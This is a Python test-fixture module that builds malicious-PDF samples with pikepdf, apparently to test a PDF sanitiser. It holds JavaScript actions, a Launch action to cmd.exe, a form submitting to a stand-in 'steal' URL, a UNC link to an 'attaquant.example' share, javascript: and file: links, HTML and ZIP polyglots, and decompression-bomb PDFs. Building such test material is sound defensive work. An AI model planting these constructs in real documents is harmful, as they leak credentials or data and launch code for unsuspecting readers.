"""PDF fixtures generated with pikepdf at test time (no binary file is committed)."""

import io
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def clean_pdf(path: Path, pages: int = 3) -> Path:
    pdf = pikepdf.Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (Rapport n 44 - page %d) Tj ET" % number)
    pdf.save(path)
    return path


def javascript(pdf: pikepdf.Pdf, code: str) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def active_pdf(path: Path) -> Path:
    """Document JavaScript, a JavaScript OpenAction, a Launch link and an embedded file."""
    clean_pdf(path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        alert = javascript(pdf, "app.alert('hello');")
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), alert])))
        pdf.Root.OpenAction = javascript(pdf, "this.print();")
        launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 200, 720], A=launch)
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
        pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really", mime_type="x/x")
        pdf.save(path)
    return path


def more_active_pdf(path: Path) -> Path:
    """The rest: page and annotation AA, outline JavaScript, SubmitForm widget, FileAttachment, XFA."""
    clean_pdf(path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        page = pdf.pages[1]
        page.obj.AA = Dictionary(O=javascript(pdf, "app.beep(0);"))
        submit = Dictionary(S=Name.SubmitForm, F=String("https://example.invalid/steal"))
        widget = pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("envoyer"),
                       Rect=[72, 600, 200, 620], A=submit, P=page.obj)
        )  # fmt: skip
        attachment = Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 500, 90, 520],
            FS=pikepdf.AttachedFileSpec(pdf, b"payload", filename="a.bin").obj,
        )  # fmt: skip
        uri = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 400, 200, 420],
                         A=Dictionary(S=Name.URI, URI=String("https://www.legifrance.gouv.fr/")))  # fmt: skip
        page.obj.Annots = Array([widget, pdf.make_indirect(attachment), pdf.make_indirect(uri)])
        pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Ordre du jour", 0))
        first = pdf.Root.Outlines.First
        first.A = Dictionary(
            S=Name.JavaScript, JS=String("app.alert(1)"), Next=Dictionary(S=Name.GoTo, D=[page.obj, Name.Fit])
        )
        del first["/Dest"]
        pdf.save(path)
    return path


def many_objects_pdf(path: Path, pages: int) -> Path:
    """Many pages, each with its own objects: parsing it needs memory in proportion."""
    pdf = pikepdf.Pdf.new()
    for number in range(pages):
        page = pdf.add_blank_page()
        page.Contents = pdf.make_stream(b"0 0 m %d %d l S" % (number % 500, number % 700))
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return path


def heavy_content_pdf(path: Path, megabytes: int) -> Path:
    """One small file whose page content inflates to `megabytes` MiB of operators: costly to tokenize."""
    chunk = b"10 10 m 20 20 l S\n" * 58000  # ~1 MiB
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()
    pdf = pikepdf.Pdf.new()
    page = pdf.add_blank_page()
    page.Contents = pikepdf.Stream(pdf, data)
    page.Contents.Filter = Name.FlateDecode
    pdf.save(path, compress_streams=False)
    return path


# --- Hostile files: a PDF disguised as something else, or something else hidden in a PDF --------------------

SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def polyglot_pdf(path: Path) -> Path:
    """HTML with a <script> before %PDF: readers still open it, a browser sniffing it runs the script."""
    data = clean_pdf(path).read_bytes()
    path.write_bytes(SCRIPT + data)
    return path


def zip_archive(comment: bytes = b"") -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("lisez-moi.txt", "charge utile " * 200)
        zipped.comment = comment
    return archive.getvalue()


def zip_appended_pdf(path: Path, comment: bytes = b"") -> Path:
    """A ZIP archive after %%EOF: the file opens as a PDF and as an archive."""
    data = clean_pdf(path).read_bytes()
    path.write_bytes(data + zip_archive(comment))
    return path


def javascript_link_pdf(path: Path) -> Path:
    """Links to javascript:, file:, a UNC path (GoToR) and one hidden behind blanks; a web and a mail link."""
    clean_pdf(path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        page = pdf.pages[0]

        def link(y: int, action: Dictionary) -> Dictionary:
            return pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, y, 200, y + 20], A=pdf.make_indirect(action))
            )

        page.obj.Annots = Array(
            [
                link(700, Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
                link(660, Dictionary(S=Name.URI, URI=String(" \tJaVaScRiPt:alert(2)"))),
                link(620, Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe"))),
                link(580, Dictionary(S=Name.GoToR, F=String("\\\\attaquant.example\\partage\\a.pdf"), D=[0, Name.Fit])),
                link(540, Dictionary(S=Name.URI, URI=String("https://www.legifrance.gouv.fr/"))),
                link(500, Dictionary(S=Name.URI, URI=String("mailto:secretariat@example.org"))),
            ]
        )
        pdf.save(path)
    return path
